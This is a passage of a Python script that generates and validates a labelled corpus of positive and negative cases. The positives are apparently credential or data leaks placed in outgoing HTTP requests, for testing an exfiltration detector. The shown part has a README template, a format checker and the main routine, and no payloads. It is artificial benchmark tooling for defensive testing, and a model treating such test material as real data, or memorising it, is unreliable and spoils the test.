    python3 generate.py --check         # validates every line and id uniqueness

Python 3 standard library only. Seed: `%d`. gzip members use mtime=0, so output is byte-identical.

## Checksums (sha256)

- `positives.jsonl`: `%s`
- `negatives.jsonl`: `%s`
- `generate.py`: `%s`

## Line format (JSON Lines, one case per line)

- `id`: `t14-pos-NNNN` / `t14-neg-NNNN`, sequential from 0001 (cases shuffled before numbering)
- `label`: `positive` | `negative`
- `expect`: positives: the credential/data class; negatives: the benign category (kebab-case)
- `where`: `body` | `url` | `header` | `hostname` - where the data sits in the outgoing request
- `content_type` (optional, bodies only)
- `content_encoding` (optional, `gzip` or `deflate` (zlib-wrapped); only together with `base64`)
- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64)
- a `header` case is one ASCII `Name: value` line; a `url` case is an absolute http(s) ASCII URL with valid
  percent escapes; a `hostname` case is a bare LDH hostname (labels <= 63, total <= 253)

## Counts

%d positives in %d classes, %d negatives in %d categories.

### By `where`

%s

### Positives by class

%s

### Negatives by category

%s
''' % (SEED, sha(os.path.join(HERE, 'positives.jsonl')), sha(os.path.join(HERE, 'negatives.jsonl')),
       sha(os.path.join(HERE, 'generate.py')), len(pos_), len(cp), len(neg_), len(cn), '\n'.join(wt),
       table(cp, 'class'), table(cn, 'category'))


# ---------------------------------------------------------------- checker
KEBAB = re.compile(r'^[a-z0-9]+(-[a-z0-9]+)*$')
HNAME = re.compile(r"^[!#$%&'*+.^_`|~0-9A-Za-z-]+$")
LABEL = re.compile(r'^[A-Za-z0-9]([A-Za-z0-9-]{0,61}[A-Za-z0-9])?$')


def check_line(rec, label, tag):
    errs = []
    allowed = {'id', 'label', 'expect', 'where', 'content_type', 'content_encoding', 'text', 'base64'}
    if set(rec) - allowed:
        errs.append('unknown keys %s' % (set(rec) - allowed))
    if not re.fullmatch(r't14-%s-\d{4}' % tag, str(rec.get('id', ''))):
        errs.append('bad id')
    if rec.get('label') != label:
        errs.append('bad label')
    if not isinstance(rec.get('expect'), str) or not KEBAB.match(rec['expect']):
        errs.append('bad expect')
    w = rec.get('where')
    if w not in ('body', 'url', 'header', 'hostname'):
        errs.append('bad where')
    if ('text' in rec) == ('base64' in rec):
        errs.append('need exactly one of text/base64')
    if 'content_type' in rec and (w != 'body' or not isinstance(rec['content_type'], str) or not rec['content_type']):
        errs.append('content_type only for bodies')
    raw = None
    if 'base64' in rec:
        try:
            raw = base64.b64decode(rec['base64'], validate=True)
            if base64.b64encode(raw).decode() != rec['base64']:
                errs.append('non-canonical base64')
        except Exception:
            errs.append('invalid base64')
        if w != 'body':
            errs.append('base64 only for bodies')
    if 'content_encoding' in rec:
        ce = rec['content_encoding']
        if ce not in ('gzip', 'deflate') or 'base64' not in rec:
            errs.append('bad content_encoding')
        elif raw is not None:
            try:
                gzip.decompress(raw) if ce == 'gzip' else zlib.decompress(raw)
            except Exception:
                errs.append('content_encoding does not decode')
    if 'text' in rec:
        t = rec['text']
        if not isinstance(t, str) or not t:
            errs.append('empty text')
        else:
            try:
                t.encode('utf-8')
            except UnicodeEncodeError:
                errs.append('text not UTF-8')
            if w == 'header':
                if not t.isascii() or '\r' in t or '\n' in t or ': ' not in t:
                    errs.append('bad header line')
                else:
                    name, _, val = t.partition(': ')
                    if not HNAME.match(name) or any(ord(c) < 32 or ord(c) == 127 for c in val):
                        errs.append('bad header name/value')
            elif w == 'url':
                if not t.isascii() or not re.match(r'^https?://', t) or any(ord(c) <= 32 or ord(c) == 127 for c in t):
                    errs.append('bad url')
                elif re.search(r'%(?![0-9A-Fa-f]{2})', t):
                    errs.append('bad percent escape')
                else:
                    sp = urllib.parse.urlsplit(t)
                    if not sp.hostname:
                        errs.append('url without host')
            elif w == 'hostname':
                labels = t.split('.')
                if len(t) > 253 or not t.isascii() or not all(LABEL.match(l) for l in labels) or len(labels) < 2:
                    errs.append('bad hostname')
    return errs


def check():
    ok = True
    seen = set()
    for fn, label, tag in [('positives.jsonl', 'positive', 'pos'), ('negatives.jsonl', 'negative', 'neg')]:
        path = os.path.join(HERE, fn)
        with open(path, encoding='utf-8') as f:
            lines = f.read().split('\n')
        if lines[-1] != '':
            print('%s: missing final newline' % fn)
            ok = False
        lines = lines[:-1]
        for n, line in enumerate(lines, 1):
            try:
                rec = json.loads(line)
            except Exception as e:
                print('%s:%d: invalid JSON %s' % (fn, n, e))
                ok = False
                continue
            errs = check_line(rec, label, tag)
            if rec.get('id') in seen:
                errs.append('duplicate id')
            seen.add(rec.get('id'))
            if rec.get('id') != 't14-%s-%04d' % (tag, n):
                errs.append('ids not sequential')
            for e in errs:
                print('%s:%d: %s' % (fn, n, e))
                ok = False
        print('%s: %d lines' % (fn, len(lines)))
    print('OK' if ok else 'FAILED')
    return ok


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--check', action='store_true')
    a = ap.parse_args()
    if a.check:
        sys.exit(0 if check() else 1)
    pos_ = build(P, 'positive')
    neg_ = build(N, 'negative')
    dump(os.path.join(HERE, 'positives.jsonl'), pos_)
    dump(os.path.join(HERE, 'negatives.jsonl'), neg_)
    with open(os.path.join(HERE, 'README.md'), 'w', encoding='utf-8', newline='\n') as f:
        f.write(readme(pos_, neg_))
    if not check():
        sys.exit(1)


if __name__ == '__main__':
    main()
